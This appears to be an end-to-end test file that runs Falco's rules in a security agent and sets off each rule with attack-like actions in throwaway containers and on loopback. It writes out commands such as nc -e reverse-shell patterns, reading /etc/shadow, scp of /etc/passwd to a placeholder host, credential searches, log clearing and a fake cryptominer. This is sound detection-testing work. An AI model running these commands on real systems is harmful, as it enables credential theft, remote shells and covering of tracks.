// Falco's own rules files (stable, incubating, sandbox from ../shared/peers/falco-rules) in the
// real `saker run`, against actions in the spirit of Falco's event-generator: one agent, two
// runc containers (a plain one and a privileged one in the network namespace of our test host),
// and host actions kept to scratch files, loopback and that namespace. Most container actions
// run in the containers so the host is left as it was.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { closeSync, copyFileSync, existsSync, openSync, realpathSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { Agent, type Alert } from './helpers/agent.js';
import { agentMissing, containersMissing, netnsMissing, which } from './helpers/env.js';
import { RuncContainer } from './helpers/runc.js';
import { METADATA_ADDRESS, TestHost } from './helpers/netns.js';
import { PY_BPF_PROG_LOAD, PY_NOBODY_ESCALATION, PY_PTRACE_ATTACH, PY_PTRACE_TRACEME, pyMemfdExec, pyUdpSend, python3, runCommand, scratchDir } from './helpers/triggers.js';
import { sharedDir } from '../../src/testing/shared.js';

const FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'];
const shared = sharedDir();
const rulesDir = shared === undefined ? undefined : join(shared, 'peers', 'falco-rules');

const skipAgent = rulesDir === undefined || !FILES.every((f) => existsSync(join(rulesDir, f)))
  ? '../shared/peers/falco-rules (the upstream rules) is absent'
  : agentMissing();
const skipContainers = skipAgent ?? containersMissing() ?? netnsMissing();
const py = python3();
const skipPython = skipAgent ?? (py === undefined ? 'needs python3 (ctypes) for this action' : undefined);

type Fields = Alert['output_fields'];
type Pred = (f: Fields) => boolean;

interface World {
  agent: Agent;
  /** runc's default spec plus CAP_NET_RAW (as Docker gives); its own empty network namespace. */
  plain: RuncContainer;
  /**
   * Privileged, joined to the test host's namespace (reaches it and the "metadata service"), with
   * the host's /etc bound read-only at /host/etc.
   */
  priv: RuncContainer;
  host: TestHost;
  dir: string;
}

interface Trigger {
  rule: string;
  /** Expected not to fire yet, and why (reported as a todo, not a failure). */
  todo?: string;
  /** What is done, in the test name. */
  what: string;
  inContainer: boolean;
  skip?: () => string | undefined;
  /** Does it; returns how to recognise the resulting alert among everything else. */
  act: (w: World) => Pred;
  /** Further checks on the alert. */
  check?: (f: Fields, w: World) => void;
}

const inC = (c: RuncContainer, name: string): Pred => (f) => f['container.id'] === c.shortId && f['proc.name'] === name;
const byPid = (pid: number): Pred => (f) => f['proc.pid'] === pid;
const hostPath = (cmd: string): string => realpathSync(which(cmd)!);

/** The block device behind / and whether root on the host may open it at all. */
function rootDisk(): { major: number; minor: number; openable: boolean } {
  const dev = statSync('/').dev;
  const major = (dev >> 8) & 0xfff;
  const minor = (dev & 0xff) | ((dev >> 12) & 0xfff00);
  let openable = false;
  try {
    closeSync(openSync(`/dev/block/${major}:${minor}`, 'r'));
    openable = true;
  } catch {
    // EPERM (a sandbox's device policy) or no /dev/block entry
  }
  return { major, minor, openable };
}

/** A shell script: its process is named after the script file, so it can play a server. */
const FAKE_NGINX = (lines: string[]) => `#!/bin/sh\n${lines.join('\n')}\n`;

/** Installs a shell script as `path` in the container. */
function script(c: RuncContainer, path: string, lines: string[]): void {
  c.run(['/bin/sh', '-c', `mkdir -p "$(dirname ${path})" && cat > ${path} && chmod 755 ${path}`], { input: FAKE_NGINX(lines) });
}

/** A program called `name` in the container (busybox behind a link, as renamed tools often are). */
function tool(c: RuncContainer, name: string): string {
  const path = `/usr/local/bin/${name}`;
  c.run(['/bin/sh', '-c', `mkdir -p /usr/local/bin && ln -sf /bin/busybox ${path}`]);
  return path;
}

const TRIGGERS: Trigger[] = [
  // ---- in the plain container
  { rule: 'Terminal shell in container', what: 'runc exec -t with a shell', inContainer: true,
    act: ({ plain }) => {
      const r = plain.execWithTerminal('/bin/sh -c "exit 0"');
      assert.equal(r.status, 0, r.stderr);
      return (f) => inC(plain, 'sh')(f) && f['proc.tty'] !== 0;
    },
    check: (f) => assert.equal(f['proc.pname'], 'runc') },
  { rule: 'Basic Interactive Reconnaissance', what: 'id typed in a container terminal', inContainer: true,
    act: ({ plain }) => {
      plain.execWithTerminal('/usr/bin/id');
      return (f) => inC(plain, 'id')(f) && f['proc.tty'] !== 0;
    } },
  { rule: 'Read sensitive file untrusted', what: 'cat /etc/shadow in a container', inContainer: true,
    act: ({ plain }) => {
      plain.run(['cat', '/etc/shadow']);
      return (f) => inC(plain, 'cat')(f) && f['fd.name'] === '/etc/shadow';
    } },
  { rule: 'Launch Package Management Process in Container', what: 'dpkg -l', inContainer: true,
    act: ({ plain }) => (plain.exec(['dpkg', '-l']), inC(plain, 'dpkg')) },
  { rule: 'Launch Suspicious Network Tool in Container', what: 'nc to the container loopback', inContainer: true,
    act: ({ plain }) => (plain.exec(['nc', '-w', '1', '127.0.0.1', '9'], { input: '' }), inC(plain, 'nc')) },
  { rule: 'Packet socket created in container', what: 'arping', inContainer: true,
    act: ({ plain }) => (plain.exec(['arping', '-c', '1', '-w', '1', '127.0.0.1']), inC(plain, 'arping')),
    check: (f) => assert.equal(f['evt.type'], 'socket') },
  // The rule is about attempts without CAP_SYS_ADMIN: a refused mount namespace. A user namespace
  // (unshare -U) succeeds, and then the thread holds every capability in it, as libsinsp records
  // after unshare(CLONE_NEWUSER), so the rule rightly stays quiet for that one.
  { rule: 'Change namespace privileges via unshare', what: 'unshare -m refused without CAP_SYS_ADMIN', inContainer: true,
    act: ({ plain }) => {
      assert.notEqual(plain.exec(['unshare', '-m', 'true']).status, 0, 'refused without CAP_SYS_ADMIN');
      return inC(plain, 'unshare');
    },
    check: (f) => assert.equal(f['evt.type'], 'unshare') },
  { rule: 'Read environment variable from /proc files', what: 'cat /proc/1/environ', inContainer: true,
    act: ({ plain }) => (plain.run(['cat', '/proc/1/environ']), inC(plain, 'cat')),
    check: (f) => assert.equal(f['fd.name'], '/proc/1/environ') },
  { rule: 'Exfiltrating Artifacts via Kubernetes Control Plane', what: 'tar of /root run straight from the runtime', inContainer: true,
    act: ({ plain }) => (plain.run(['tar', 'cf', '/tmp/root.tar', '/root']), inC(plain, 'tar')) },
  { rule: 'Decoding Payload in Container', what: 'base64 -d', inContainer: true,
    act: ({ plain }) => (plain.run(['base64', '-d'], { input: 'aWQK' }), inC(plain, 'base64')) },
  { rule: 'Drop and execute new binary in container', what: 'a busybox copy written in the container and run', inContainer: true,
    act: ({ plain }) => {
      plain.copyIn('/bin/busybox', '/tmp/dropped');
      plain.exec(['/tmp/dropped', 'true']);
      return inC(plain, 'dropped');
    },
    check: (f) => assert.equal(f['proc.exepath'], '/tmp/dropped') },
  { rule: 'Set Setuid or Setgid bit', what: 'chmod u+s', inContainer: true,
    act: ({ plain }) => (plain.run(['chmod', 'u+s', '/tmp/dropped']), inC(plain, 'chmod')) },
  { rule: 'Write below binary dir', what: 'touch /usr/bin/…', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/usr/bin/saker-e2e']), inC(plain, 'touch')) },
  { rule: 'Modify binary dirs', what: 'rm /usr/bin/…', inContainer: true,
    act: ({ plain }) => (plain.run(['rm', '/usr/bin/saker-e2e']), inC(plain, 'rm')) },
  { rule: 'Mkdir binary dirs', what: 'mkdir /usr/bin/…', inContainer: true,
    act: ({ plain }) => (plain.run(['mkdir', '/usr/bin/saker-e2e-dir']), inC(plain, 'mkdir')) },
  { rule: 'Write below etc', what: 'touch /etc/…', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/etc/saker-e2e']), inC(plain, 'touch')),
    check: (f) => assert.equal(f['fd.name'], '/etc/saker-e2e') },
  { rule: 'Write below root', what: 'touch /…', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/saker-e2e']), inC(plain, 'touch')),
    check: (f) => assert.equal(f['fd.name'], '/saker-e2e') },
  { rule: 'Modify Shell Configuration File', what: 'touch /root/.profile', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/root/.profile']), inC(plain, 'touch')) },
  { rule: 'Clear Log Activities', what: 'cp /dev/null over /var/log/auth.log', inContainer: true,
    act: ({ plain }) => (plain.run(['cp', '/dev/null', '/var/log/auth.log']), inC(plain, 'cp')) },
  { rule: 'Create Symlink Over Sensitive Files', what: 'ln -s /etc/shadow', inContainer: true,
    act: ({ plain }) => (plain.run(['ln', '-s', '/etc/shadow', '/tmp/shadow-link']), inC(plain, 'ln')) },
  { rule: 'Create Hardlink Over Sensitive Files', what: 'ln /etc/shadow', inContainer: true,
    act: ({ plain }) => (plain.run(['ln', '/etc/shadow', '/tmp/shadow-hard']), inC(plain, 'ln')) },
  { rule: 'Delete or rename shell history', what: 'rm /root/.ash_history', inContainer: true,
    act: ({ plain }) => (plain.run(['rm', '/root/.ash_history']), inC(plain, 'rm')) },
  { rule: 'Schedule Cron Jobs', what: 'crontab -l', inContainer: true,
    act: ({ plain }) => (plain.exec(['crontab', '-l']), inC(plain, 'crontab')) },
  { rule: 'Create files below dev', what: 'touch /dev/…', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/dev/saker-e2e']), inC(plain, 'touch')) },
  { rule: 'Search Private Keys or Passwords', what: 'find -name id_rsa', inContainer: true,
    act: ({ plain }) => (plain.exec(['find', '/root', '/etc', '-name', 'id_rsa']), inC(plain, 'find')) },
  { rule: 'Find AWS Credentials', what: 'find -wholename …/.aws/credentials', inContainer: true,
    act: ({ plain }) => (plain.exec(['find', '/root', '-wholename', '/root/.aws/credentials']), inC(plain, 'find')) },
  { rule: 'Remove Bulk Data from Disk', what: 'shred -u', inContainer: true,
    act: ({ plain }) => (plain.run(['shred', '-u', '/tmp/root.tar']), inC(plain, 'shred')) },
  { rule: 'Run shell untrusted', what: 'a process named nginx starts a shell', inContainer: true,
    act: ({ plain }) => {
      plain.run(['/bin/sh', '-c', 'cat > /usr/sbin/nginx && chmod 755 /usr/sbin/nginx'],
        { input: FAKE_NGINX(["/bin/sh -c 'cd /tmp && /usr/bin/id'"]) });
      plain.run(['/usr/sbin/nginx']);
      return (f) => inC(plain, 'sh')(f) && f['proc.pname'] === 'nginx';
    } },
  { rule: 'Web Server Spawned Shell', what: '(same shell)', inContainer: true,
    act: ({ plain }) => (f) => inC(plain, 'sh')(f) && f['proc.pname'] === 'nginx' },
  { rule: 'Web Server Spawned Suspicious Child Process', what: 'id below the nginx shell', inContainer: true,
    act: ({ plain }) => inC(plain, 'id') },
  { rule: 'Reverse Shell from Web Server', what: 'nginx runs nc -e', inContainer: true,
    act: ({ plain }) => {
      plain.run(['/bin/sh', '-c', 'cat > /usr/sbin/nginx'], { input: FAKE_NGINX(['/usr/bin/nc -e /bin/true 127.0.0.1 9']) });
      plain.exec(['/usr/sbin/nginx']);
      return inC(plain, 'nc');
    } },

  { rule: 'Read ssh information', what: 'cat /root/.ssh/known_hosts', inContainer: true,
    act: ({ plain }) => {
      plain.run(['mkdir', '-p', '/root/.ssh']);
      plain.run(['touch', '/root/.ssh/known_hosts']);
      plain.run(['cat', '/root/.ssh/known_hosts']);
      return inC(plain, 'cat');
    } },
  { rule: 'Adding ssh keys to authorized_keys', what: 'touch /root/.ssh/authorized_keys', inContainer: true,
    act: ({ plain }) => (plain.run(['touch', '/root/.ssh/authorized_keys']), (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/root/.ssh/authorized_keys') },
  { rule: 'Write below monitored dir', what: '(the same write into /root/.ssh)', inContainer: true,
    act: ({ plain }) => (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/root/.ssh/authorized_keys' },
  { rule: 'Update Package Repository', what: 'a new list in /etc/apt/sources.list.d', inContainer: true,
    act: ({ plain }) => {
      plain.run(['mkdir', '-p', '/etc/apt/sources.list.d']);
      plain.run(['touch', '/etc/apt/sources.list.d/extra.list']);
      return (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/etc/apt/sources.list.d/extra.list';
    } },
  { rule: 'DB program spawned process', what: 'a process named postgres starts a program', inContainer: true,
    act: ({ plain }) => {
      script(plain, '/usr/lib/postgresql/bin/postgres', ['/bin/true', 'exit 0']);
      plain.run(['/usr/lib/postgresql/bin/postgres']);
      return (f) => inC(plain, 'true')(f) && f['proc.pname'] === 'postgres';
    } },
  { rule: 'Network Tool Executed During NPM Package Install', what: 'npm (a script) runs nc', inContainer: true,
    act: ({ plain }) => {
      script(plain, '/usr/local/bin/npm', ['/usr/bin/nc -w 1 127.0.0.1 9 < /dev/null', 'exit 0']);
      plain.exec(['/usr/local/bin/npm', 'install']);
      return (f) => inC(plain, 'nc')(f) && f['proc.pname'] === 'npm';
    } },
  { rule: 'Backdoored library loaded into SSHD (CVE-2024-3094)', what: 'a process named sshd reads liblzma.so.5.6.1', inContainer: true,
    act: ({ plain }) => {
      plain.run(['touch', '/tmp/liblzma.so.5.6.1']);
      script(plain, '/usr/sbin/sshd', ['read x < /tmp/liblzma.so.5.6.1', 'exit 0']);
      plain.exec(['/usr/sbin/sshd']);
      return inC(plain, 'sshd');
    } },
  { rule: 'Sudo Potential Privilege Escalation', what: 'sudo -s with an argument ending in a backslash', inContainer: true,
    act: ({ plain }) => (plain.exec([tool(plain, 'sudo'), '-s', 'id\\']), inC(plain, 'sudo')) },
  { rule: 'Kubernetes Client Tool Launched in Container', what: 'kubectl get pods', inContainer: true,
    act: ({ plain }) => (plain.exec([tool(plain, 'kubectl'), 'get', 'pods']), inC(plain, 'kubectl')) },
  { rule: 'Launch Remote File Copy Tools in Container', what: 'scp', inContainer: true,
    act: ({ plain }) => (plain.exec([tool(plain, 'scp'), '/etc/passwd', 'backup@198.51.100.77:']), inC(plain, 'scp')) },

  // ---- in the privileged container, inside the test host's network namespace
  { rule: 'Launch Excessively Capable Container', what: 'the privileged container starting', inContainer: true,
    act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1,
    check: (f) => assert.equal(f['proc.name'], 'sleep') },
  { rule: 'Contact EC2 Instance Metadata Service From Container', what: 'wget 169.254.169.254 (in our namespace)', inContainer: true,
    act: ({ priv }) => {
      assert.match(priv.run(['wget', '-q', '-O', '-', `http://${METADATA_ADDRESS}/latest/meta-data/`]), /saker-e2e/);
      return inC(priv, 'wget');
    },
    check: (f) => assert.equal(f['fd.sip'], METADATA_ADDRESS) },
  { rule: 'Contact cloud metadata service from container', what: '(same connection)', inContainer: true,
    act: ({ priv }) => inC(priv, 'wget') },
  { rule: 'Launch Ingress Remote File Copy Tools in Container', what: '(the same wget)', inContainer: true,
    act: ({ priv }) => inC(priv, 'wget') },
  { rule: 'Netcat Remote Code Execution in Container', what: 'nc -e to the test host', inContainer: true,
    act: ({ priv, host }) => (priv.exec(['nc', host.address, String(host.port), '-e', '/bin/true']), inC(priv, 'nc')) },
  { rule: 'Redirect STDOUT/STDIN to Network Connection in Container', what: '(nc -e duplicating the socket)', inContainer: true,
    act: ({ priv }) => inC(priv, 'nc'),
    check: (f, { host }) => {
      assert.equal(f['fd.sip'], host.address);
      assert.equal(f['fd.sport'], host.port);
      assert.ok(['dup', 'dup2', 'dup3'].includes(f['evt.type'] as string));
    } },
  { rule: 'Mount Launched in Privileged Container', what: 'mount -t tmpfs', inContainer: true,
    act: ({ priv }) => {
      priv.run(['mkdir', '-p', '/mnt/t']);
      priv.run(['mount', '-t', 'tmpfs', 'none', '/mnt/t']);
      return inC(priv, 'mount');
    },
    check: (f) => assert.equal(f['container.privileged'], true) },
  { rule: 'Detect release_agent File Container Escapes', what: 'write a release_agent file', inContainer: true,
    act: ({ priv }) => (priv.run(['touch', '/tmp/release_agent']), inC(priv, 'touch')) },

  { rule: 'Debugfs Launched in Privileged Container', what: 'debugfs', inContainer: true,
    act: ({ priv }) => (priv.exec([tool(priv, 'debugfs'), '-R', 'ls']), inC(priv, 'debugfs')) },
  { rule: 'Privileged Container Device Access', what: "open the host's root disk (no byte read)", inContainer: true,
    skip: () => (rootDisk().openable ? undefined
      : "this machine refuses to open block devices even to root on the host (EPERM): no open succeeds for the rule's open_read to see"),
    act: ({ priv }) => {
      // The block device of the host's root filesystem, made inside the container under a /dev/vd* name.
      const { major, minor } = rootDisk();
      priv.run(['mknod', '/dev/vdz', 'b', String(major), String(minor)]);
      priv.run(['dd', 'if=/dev/vdz', 'of=/dev/null', 'count=0']);
      return (f) => inC(priv, 'dd')(f) && f['fd.name'] === '/dev/vdz';
    } },
  { rule: 'Container Access to Host Sensitive Paths', what: "read the host's /etc/hostname below /host", inContainer: true,
    act: ({ priv }) => {
      priv.run(['cat', '/host/etc/hostname']);
      return (f) => inC(priv, 'cat')(f) && f['fd.name'] === '/host/etc/hostname';
    } },
  // container_started rules read container metadata at the entrypoint's exec (proc.vpid = 1):
  // runc's state file is read on the spot then, the background lookup would come too late.
  { rule: 'Launch Privileged Container', what: 'the privileged container starting', inContainer: true,
    act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1,
    check: (f) => assert.equal(f['container.privileged'], true) },
  // container.mount.dest[/etc] names the mount whose *source* is /etc: the host's /etc, bound in.
  { rule: 'Launch Sensitive Mount Container', what: "a container with the host's /etc bound in, starting", inContainer: true,
    act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1 },

  // ---- on the host: scratch files, loopback, our namespace
  { rule: 'Read sensitive file untrusted', what: 'cat /etc/shadow on the host', inContainer: false,
    act: () => byPid(runCommand('cat', ['/etc/shadow']).pid),
    check: (f) => assert.equal(f['container.id'], 'host') },
  { rule: 'Directory traversal monitored file read', what: 'cat /etc/../etc/../etc/passwd', inContainer: false,
    act: () => byPid(runCommand('cat', ['/etc/../etc/../etc/passwd']).pid),
    check: (f) => assert.equal(f['fd.name'], '/etc/passwd') },
  { rule: 'Execution from /dev/shm', what: 'a copy of true in /dev/shm', inContainer: false,
    act: ({ dir }) => {
      const prog = `/dev/shm/saker-e2e-${randomBytes(3).toString('hex')}`;
      copyFileSync(hostPath('true'), prog);
      try {
        return byPid(runCommand(prog, []).pid);
      } finally {
        rmSync(prog, { force: true });
        void dir;
      }
    } },
  { rule: 'Fileless execution via memfd_create', what: 'python3 fexecve of a memfd', inContainer: false, skip: () => skipPython,
    act: () => byPid(runCommand(py!, ['-c', pyMemfdExec(hostPath('true'))]).pid) },
  { rule: 'PTRACE attached to process', what: 'python3 PTRACE_ATTACH', inContainer: false, skip: () => skipPython,
    act: () => byPid(runCommand(py!, ['-c', PY_PTRACE_ATTACH]).pid) },
  { rule: 'PTRACE anti-debug attempt', what: 'python3 PTRACE_TRACEME', inContainer: false, skip: () => skipPython,
    act: () => byPid(runCommand(py!, ['-c', PY_PTRACE_TRACEME]).pid) },
  { rule: 'Non sudo setuid', what: 'nobody trying setuid(0)', inContainer: false, skip: () => skipPython,
    act: () => byPid(runCommand(py!, ['-c', PY_NOBODY_ESCALATION]).pid),
    check: (f) => assert.equal(f['user.name'], 'nobody') },
  { rule: 'Unprivileged Delegation of Page Faults Handling to a Userspace Process', what: '(nobody trying userfaultfd)', inContainer: false,
    skip: () => skipPython,
    act: () => (f) => f['evt.type'] === 'userfaultfd' && f['user.name'] === 'nobody' },
  // (busybox's nc here has no -u, so python3 sends the datagram)
  { rule: 'Unexpected UDP Traffic', what: 'a UDP datagram to the test host, port 9999', inContainer: false,
    skip: () => skipContainers ?? skipPython,
    act: ({ host }) => byPid(runCommand(py!, ['-c', pyUdpSend(host.address, 9999)]).pid),
    check: (f, { host }) => {
      assert.equal(f['fd.sip'], host.address);
      assert.equal(f['fd.sport'], 9999);
    } },
  { rule: 'BPF Program Not Profiled', what: 'python3 loads a socket filter', inContainer: false, skip: () => skipPython,
    act: () => byPid(runCommand(py!, ['-c', PY_BPF_PROG_LOAD]).pid) },
  { rule: 'Disallowed SSH Connection Non Standard Port', what: 'ssh to the test host on port 8443', inContainer: false,
    skip: () => skipContainers ?? (which('ssh') === undefined ? 'needs an ssh client' : undefined),
    act: ({ host }) => byPid(runCommand('ssh', ['-p', String(host.port), '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3',
      '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', `nobody@${host.address}`, 'true']).pid),
    check: (f, { host }) => assert.equal(f['fd.sip'], host.address) },
  { rule: 'Launch Suspicious Network Tool on Host', what: 'nc to loopback', inContainer: false,
    act: ({ dir }) => {
      const nc = join(dir, 'nc');
      if (!existsSync(nc)) symlinkSync('/bin/busybox', nc);
      return byPid(runCommand(nc, ['-w', '1', '127.0.0.1', '9'], { input: '' }).pid);
    } },
  { rule: 'Netcat/Socat Remote Code Execution on Host', what: 'nc -e to loopback', inContainer: false,
    act: ({ dir }) => byPid(runCommand(join(dir, 'nc'), ['-w', '1', '-e', '/bin/true', '127.0.0.1', '9']).pid) },
  { rule: 'Change thread namespace', what: 'ip netns exec into the test host', inContainer: false,
    act: ({ host }) => byPid(runCommand('ip', ['netns', 'exec', host.name, 'true']).pid),
    check: (f) => assert.equal(f['evt.type'], 'setns') },
  { rule: 'Potential Local Privilege Escalation via Environment Variables Misuse', what: 'GLIBC_TUNABLES in the environment', inContainer: false,
    act: () => byPid(runCommand(hostPath('true'), [], { env: { ...process.env, GLIBC_TUNABLES: 'glibc.malloc.mxfast=0' } }).pid) },
  { rule: 'Program run with disallowed http proxy env', what: 'wget with HTTP_PROXY, all on loopback', inContainer: false,
    skip: () => (which('wget') === undefined ? 'needs wget on the host' : undefined),
    act: () => byPid(runCommand('wget', ['-q', '-T', '1', '-t', '1', '-O', '/dev/null', 'http://127.0.0.1:9/'],
      { env: { ...process.env, HTTP_PROXY: 'http://127.0.0.1:9', http_proxy: 'http://127.0.0.1:9' } }).pid) },
  { rule: 'Known Cryptominer Process Executed', what: 'a program named xmrig', inContainer: false,
    act: ({ dir }) => {
      const miner = join(dir, 'xmrig');
      copyFileSync(hostPath('true'), miner);
      return byPid(runCommand(miner, ['-o', 'stratum+tcp://198.51.100.7:3333', '-u', 'wallet']).pid);
    } },
  { rule: 'Detect crypto miners using the Stratum protocol', what: '(its stratum+tcp URL)', inContainer: false,
    act: () => (f) => f['proc.name'] === 'xmrig' },
  { rule: 'User mgmt binaries', what: 'usermod without arguments (usage only)', inContainer: false,
    skip: () => (which('usermod') === undefined ? 'needs usermod (passwd package)' : undefined),
    act: () => byPid(runCommand('usermod', []).pid) },
];

describe('upstream Falco rules, live', { concurrency: false }, () => {
  let world: World | undefined;
  let scratch: { dir: string; cleanup: () => void } | undefined;
  const fired = new Map<string, boolean>();

  before(async () => {
    if (skipAgent !== undefined) return;
    scratch = scratchDir('upstream');
    const agent = await Agent.start({ rules: FILES.map((f) => join(rulesDir!, f)), options: ['rule_matching=all'] });
    world = { agent, dir: scratch.dir } as World;
    if (skipContainers === undefined) {
      world.host = await TestHost.start();
      world.plain = RuncContainer.start({ addCaps: ['CAP_NET_RAW'] });
      world.priv = RuncContainer.start({ privileged: true, netns: world.host.name, binds: [{ source: '/etc', dest: '/host/etc' }] });
    }
  });

  after(() => {
    world?.agent.kill();
    world?.plain?.destroy();
    world?.priv?.destroy();
    world?.host?.close();
    scratch?.cleanup();
  });

  for (const trig of TRIGGERS) {
    test(`${trig.rule}: ${trig.what}`, { todo: trig.todo }, async (t) => {
      const why = skipAgent ?? (trig.inContainer ? skipContainers : undefined) ?? trig.skip?.();
      if (why !== undefined) return t.skip(why);
      if (world === undefined) return t.skip('the agent did not start (see the before hook)');
      const pred = trig.act(world);
      const a = await world.agent.waitForRule(trig.rule, pred, { timeoutMs: trig.todo ? 2000 : 10_000 });
      trig.check?.(a.output_fields, world);
      if (trig.inContainer) assert.notEqual(a.output_fields['container.id'], 'host');
      fired.set(trig.rule, trig.inContainer);
    });
  }

  test('at least 12 distinct upstream rules fired, 3 or more of them in containers', (t) => {
    if (skipAgent !== undefined) return t.skip(skipAgent);
    const inContainers = [...fired.values()].filter((c) => c).length;
    t.diagnostic(`${fired.size} rules fired (${inContainers} in containers): ${[...fired.keys()].join('; ')}`);
    assert.ok(fired.size >= 12, `only ${fired.size} rules fired`);
    if (skipContainers === undefined) assert.ok(inContainers >= 3, `only ${inContainers} container rules fired`);
  });

  test('the agent stops on SIGTERM with exit status 0', async (t) => {
    if (world === undefined) return t.skip(skipAgent ?? 'the agent did not start');
    await world.agent.stop();
  });
});
